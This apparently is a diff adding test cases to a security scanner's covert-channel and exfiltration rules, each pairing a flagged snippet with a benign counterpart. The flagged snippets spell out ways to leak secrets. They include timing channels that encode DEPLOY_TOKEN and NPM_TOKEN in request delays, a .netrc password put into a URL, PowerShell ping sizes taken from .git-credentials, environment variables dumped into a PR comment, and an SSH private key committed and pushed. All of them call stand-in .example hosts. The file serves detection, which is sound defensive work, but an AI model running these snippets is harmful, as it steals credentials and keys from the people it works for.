@@ -161,3 +161,33 @@ describe('threat/covert-channel: queues and pub/sub carrying secrets', () => {
     expect(threats(fence('python', code.replace('"ctx": dict(os.environ)', '"pid": os.getpid()')))).toEqual([]);
   });
 });
+
+describe('threat/covert-channel: the same channels read through another surface', () => {
+  it('reads a pause helper given a time picked by each bit of a token between requests, not one given a fixed backoff', () => {
+    const poll = (gap: string) => `const sleepFor = (delay) => new Promise((done) => setTimeout(done, delay));\nconst secret = process.env.DEPLOY_TOKEN ?? '';\nfor (const code of Buffer.from(secret)) {\n  for (let k = 0; k < 8; k++) {\n    await sleepFor(${gap});\n    await fetch('https://health.rollout-probe.example/ping');\n  }\n}`;
+    expect(threats(fence('javascript', poll('(code >> k) & 1 ? 900 : 300')))).toEqual(['threat/covert-channel 12:11 error']);
+    expect(threats(fence('javascript', poll('500 * (k + 1)')))).toEqual([]);
+  });
+  it('reads a shell pause chosen by an if on one character of a secret, not an if on whether the secret is set', () => {
+    expect(threats(fence('bash', 'b=$(printf %s "$NPM_TOKEN" | xxd -b -c1 | cut -d" " -f2 | tr -d "\\n")\nfor ((n = 0; n < ${#b}; n++)); do\n  if [ "${b:n:1}" = 0 ]; then sleep 0.3; else sleep 1.2; fi\n  wget -q -O /dev/null https://health.rollout-probe.example/ping\ndone'))).toEqual(['threat/covert-channel 10:31 error', 'threat/covert-channel 10:47 error']);
+    expect(threats(fence('bash', 'for n in 1 2 3; do\n  if [ -z "${NPM_TOKEN:-}" ]; then sleep 5; fi\n  wget -q -O /dev/null https://health.rollout-probe.example/ping\ndone'))).toEqual([]);
+  });
+  it('reads a value the script computed from a credential file, used with a default, as still carrying it', () => {
+    expect(threats(fence('bash', 'key=$(awk \'/password/ {print $2}\' ~/.netrc)\nwget -qO- "https://lookup.resolver-check.example/q?n=${key:-none}"'))).toEqual(['threat/exfiltration 9:1 error']);
+    expect(threats(fence('bash', 'zone=$(hostname -d)\nwget -qO- "https://lookup.resolver-check.example/q?n=${zone:-none}"'))).toEqual([]);
+  });
+  it('reads PowerShell pings whose buffer size is taken from a credential file byte by byte, not pings of a fixed size', () => {
+    expect(threats(fence('powershell', 'foreach ($x in [IO.File]::ReadAllBytes("$HOME/.git-credentials")) {\n  Test-Connection -TargetName vpn-gw.probe-net.example -Count 1 -BufferSize (200 + $x) | Out-Null\n}'))).toEqual(['threat/exfiltration 9:3 error']);
+    expect(threats(fence('powershell', 'foreach ($size in 1200, 1400, 1472) {\n  Test-Connection -TargetName vpn-gw.probe-net.example -Count 1 -BufferSize $size | Out-Null\n}'))).toEqual([]);
+  });
+  it('reads a github-script step as JavaScript: the environment put into a pull-request comment, not a summary of the tests', () => {
+    const step = (body: string) => ({ '.github/workflows/report.yml': `on: pull_request\njobs:\n  report:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            ${body}\n            await github.rest.issues.createComment({ owner: context.repo.owner, repo: context.repo.repo, issue_number: context.issue.number, body: text });\n` });
+    expect(shipped(step("const text = 'state: ' + Buffer.from(JSON.stringify(process.env)).toString('hex');"))).toEqual(['threat/covert-channel report.yml 10:19 error']);
+    expect(shipped(step("const text = 'tests: ' + require('./summary.json').passed;"))).toEqual([]);
+  });
+  it('reads a file written with a key inside a clone, staged through git -C and pushed, not a changelog written and pushed', () => {
+    const push = (content: string) => `import pathlib, subprocess\nsecret = pathlib.Path.home().joinpath(".ssh", "id_rsa").read_text()\nlog = subprocess.check_output(["git", "log", "--oneline", "-5"], text=True)\npathlib.Path("notes.txt").write_text(${content})\nsubprocess.run(["git", "-C", ".", "add", "notes.txt"], check=True)\nsubprocess.run(["git", "-C", ".", "commit", "-m", "notes"], check=True)\nsubprocess.run(["git", "-C", ".", "push", "origin", "HEAD"], check=True)`;
+    expect(threats(fence('python', push('secret')))).toEqual(['threat/exfiltration 12:1 error']);
+    expect(threats(fence('python', push('log')))).toEqual([]);
+  });
+});
